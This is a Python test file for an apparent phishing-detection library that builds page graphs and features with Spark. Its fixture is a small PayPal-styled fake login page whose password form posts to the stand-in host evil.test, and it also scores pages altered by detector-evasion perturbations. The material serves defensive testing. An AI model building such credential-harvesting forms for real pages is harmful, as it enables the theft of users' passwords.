from pagelattice import constants as C
from pagelattice.operators import dom
from pagelattice.operators.features import feature_row
from pagelattice.operators.page_graph import REDIRECT_TYPE, REQUEST_TYPE, STORAGE_TYPE, build_page_graph

LOGIN = """<html><head><title>Log in</title><link rel="icon" href="https://cdn.other.test/i.ico"></head><body><nav><a href="#">Home</a></nav>
<script>document.cookie = "a"; localStorage.setItem("k", 1); eval("1")</script>
<form action="https://evil.test/post"><input type="password" name="pw"><input type="hidden"><button>Verify account</button></form><img class="logo" alt="paypal" src="https://cdn.other.test/l.png"></body></html>"""
SCHEMA = f"page_id long, url string, html string, requests {REQUEST_TYPE}, redirects {REDIRECT_TYPE}, storage_ops {STORAGE_TYPE}"


def request(url, kind, navigation=False):
    return (url, "GET", kind, navigation, 200)


def pages(spark):
    traced = [request("https://page.test/login", "document", True), request("https://cdn.other.test/l.png", "image"), request("https://api.test/x", "xhr"), request("https://js.test/a.js", "script"), request("https://r.test/1", "document"), request("https://r.test/2", "document"), request("https://r.test/2", "document")]
    return spark.createDataFrame(
        [
            (1, "https://page.test/login", LOGIN, traced, [("https://r.test/1", "https://r.test/2", 302), ("https://r.test/1", "https://gone.test/", 302)], [("set_cookie", None, "k", "v", "at https://js.test/a.js:1", 1), ("get_storage", "local", "k", None, None, 2)]),
            (2, "https://page.test/login", LOGIN, None, None, None),
            (3, "https://empty.test/", "", None, None, None),
            (4, "https://null.test/", None, None, None, None),
        ],
        SCHEMA,
    )


def test_dom_recovery():
    rows, pieces = dom.parse("<p>one<p>two <b>x</b><ul><li>a<li>b</ul><table><tr><td>1<td>2<tr><td>3</table>")
    shape = [(r["tag"], r["depth"]) for r in rows]
    assert shape == [("html", 0), ("body", 1), ("p", 2), ("p", 2), ("b", 3), ("ul", 2), ("li", 3), ("li", 3), ("table", 2), ("tr", 3), ("td", 4), ("td", 4), ("tr", 3), ("td", 4)]
    assert pieces == ["one", "two", "x", "a", "b", "1", "2", "3"]
    spans = {(r["tag"], r["text_start"], r["text_end"]) for r in rows}
    assert ("body", 0, sum(map(len, pieces))) in spans


def test_keywords_may_straddle_children(spark):
    df = spark.createDataFrame([(1, "u", "<div><p>pass</p><p>word</p></div><p>other</p><script>login</script>")], "page_id long, url string, html string")
    found = {(r.tag, r.seq) for r in dom.dom_nodes(df).where("has_credential").collect()}
    assert {t for t, _ in found} == {"html", "body", "div", "script"}


def test_graph_layers(spark):
    nodes, edges, _ = build_page_graph(pages(spark))
    kinds = {(r.page_id, r.node_type) for r in nodes.collect()}
    assert {k for p, k in kinds if p == 1} == {"html", "script", "network", "storage"} == {k for p, k in kinds if p == 2}
    types = {(r.page_id, r.edge_type) for r in edges.collect()}
    assert {t for p, t in types if p == 1} == {"structure", "execute", "request", "access"}
    by = {(r.page_id, r.src, r.dst): r for r in edges.collect()}
    node = {(r.page_id, r.node): r for r in nodes.collect()}
    image = next(n for (p, n), r in node.items() if p == 1 and r.url == "https://cdn.other.test/l.png")
    owner = next(s for (p, s, d) in by if p == 1 and d == image)
    assert node[(1, owner)].tag == "img"
    redirected = [r for r in by.values() if r.is_redirect]
    assert len(redirected) == 1 and node[(1, redirected[0].dst)].is_redirect and node[(1, redirected[0].dst)].url == "https://r.test/2"
    last = max(int(n.split("_")[1]) for (p, n), r in node.items() if r.url == "https://r.test/2")
    assert redirected[0].dst == f"request_{last}"
    navigation = [r for r in by.values() if r.dst == "html_0" and r.edge_type == "request"]
    assert len(navigation) == 1
    dynamic = next(n for (p, n), r in node.items() if p == 1 and r.node_type == "script" and r.src == "https://js.test/a.js")
    assert by[(1, "storage_0", dynamic)].edge_type == "access"
    assert (1, "storage_1", "js_0") in by  # the first inline script
    assert {r.url for (p, n), r in node.items() if p == 2 and r.node_type == "network"} == {"https://cdn.other.test/i.ico", "https://evil.test/post", "https://cdn.other.test/l.png"}
    assert [(r.node, r.tag) for (p, n), r in node.items() if p in (3, 4)] == [("page_root", "document")] * 2


def test_feature_rows(spark):
    df = feature_row(pages(spark))
    assert df.columns == ["page_id", *C.FEATURE_NAMES]
    rows = {r.page_id: r for r in df.collect()}
    assert set(rows) == {1, 2, 3, 4}
    for r in rows.values():
        assert all(v is not None and v == v for v in r)
        assert all(0 <= r[n] <= 1 for n in C.FEATURE_NAMES if n.endswith("_ratio"))
        assert r.ancestors_mean == r.descendants_mean
    one, two = rows[1], rows[2]
    assert (one.num_password_inputs, one.num_hidden_inputs, one.obfuscation_indicator, one.has_favicon) == (1, 1, 1, 1)
    assert one.form_subgraph_size >= 4 and one.form_subgraph_depth == 1 and one.brand_in_text_not_domain == 0 and one.brand_keyword_in_nodes > 0
    assert two.form_to_external_edge == 1 and two.form_data_exfil_path == 1 and two.exfil_path_length == 3 and two.cookie_set_with_form == 1
    assert abs(one.structure_edge_ratio + one.request_edge_ratio + one.execute_edge_ratio + one.access_edge_ratio - 1) < 1e-3
    assert one.redirect_edge_ratio > 0 and one.resource_dependency_depth == 1
    empty = rows[3]
    assert (empty.html_node_ratio, empty.graph_num_components, empty.dom_leaf_ratio, empty.script_to_input_path_length) == (1, 1, 1, -1)
    assert empty.url_length == len("https://empty.test/")


def test_scores_of_perturbed_pages(spark):
    import random

    from pagelattice.operators import models

    rnd = random.Random(4)
    train = spark.createDataFrame([(k, "phish" if k % 2 else "benign", *[float(k % 2) + rnd.random() for _ in C.FEATURE_NAMES]) for k in range(30)], "page_id long, label string, " + ", ".join(f"{n} double" for n in C.FEATURE_NAMES))
    model = models.fit(train, "forest", trees=2, depth=2)
    rows = models.score_variants(model, pages(spark).where("page_id in (2, 3)").select("page_id", "url", "html").selectExpr("*", "'phish' as label")).collect()
    assert len(rows) == 84 and all(0 <= r.score <= 1 for r in rows)
    assert {(r.url, r.status) for r in rows if r.attack == "A1_url_shortener"} == {("https://page.test/login", "ok"), ("https://empty.test/", "missing")}


def test_no_table_of_the_pages_is_broadcast(spark):
    """Tables that grow with the pages are joined by shuffles, however small Spark takes their files to be."""
    plan = feature_row(pages(spark))._jdf.queryExecution().executedPlan().toString()
    assert "Broadcast" not in plan and "SortMergeJoin" in plan


def test_shuffles_of_a_page_graph_grow_with_its_rows(spark, monkeypatch):
    from pagelattice import tables

    monkeypatch.setattr(tables, "SPREAD_ROWS", 50)
    many = spark.range(60).selectExpr("id as page_id", "'https://a.b/c' as url", "'<body><p>x</p><script src=\"https://c.d/e\"></script></body>' as html")
    before = spark.conf.get("spark.sql.shuffle.partitions")
    _, edges, dom = build_page_graph(many)
    assert dom.count() == 60 * 4 and len(edges.inputFiles()) > 4 and edges.groupBy("page_id").count().where("count >= 4").count() == 60
    assert spark.conf.get("spark.sql.shuffle.partitions") == before and spark.conf.get("spark.sql.adaptive.coalescePartitions.enabled") == "true"
